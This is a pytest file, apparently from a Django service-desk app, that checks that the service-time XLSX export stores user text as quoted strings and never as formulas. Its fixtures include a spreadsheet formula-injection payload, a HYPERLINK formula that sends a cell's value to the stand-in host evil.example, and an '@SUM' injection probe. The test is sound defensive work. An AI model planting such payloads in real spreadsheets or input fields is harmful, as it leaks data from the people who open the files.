"""User text in the service-time workbook is written as text, never as a live formula."""

from __future__ import annotations

import io
import zipfile

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from simkerma.servicedesk.models import Breach, ClockName
from simkerma.servicedesk.tests.factories import ServiceRequestFactory
from simkerma.servicedesk.tests.helpers import wib

pytestmark = pytest.mark.django_db
SUBJECT = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")'


@time_machine.travel(wib(2026, 11, 27, 10, 0), tick=False)
def test_it_writes_a_formula_like_subject_as_text(client_for, auditor, staff):
    late = ServiceRequestFactory(
        subject=SUBJECT, received_at=wib(2026, 3, 3, 9, 0), responded_at=wib(2026, 3, 3, 9, 20)
    )
    Breach.objects.create(
        request=late,
        clock=ClockName.RESPONSE,
        deadline=late.response_due_at,
        detected_at=wib(2026, 3, 3, 9, 20),
        reason="@SUM(1+1)\x07",
        reason_by=staff,
    )
    response = client_for(auditor).get(reverse("reports:download", args=["service_time", "xlsx"]), {"year": 2026})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
    breaches = load_workbook(io.BytesIO(content)).worksheets[1]
    subject, reason = breaches["B6"], breaches["G6"]  # the first record under the headings of row 5
    assert (subject.value, subject.data_type, subject.quotePrefix) == (SUBJECT, "s", True)
    assert (reason.value, reason.data_type, reason.quotePrefix) == ("@SUM(1+1)", "s", True)
    assert breaches["A6"].quotePrefix is False
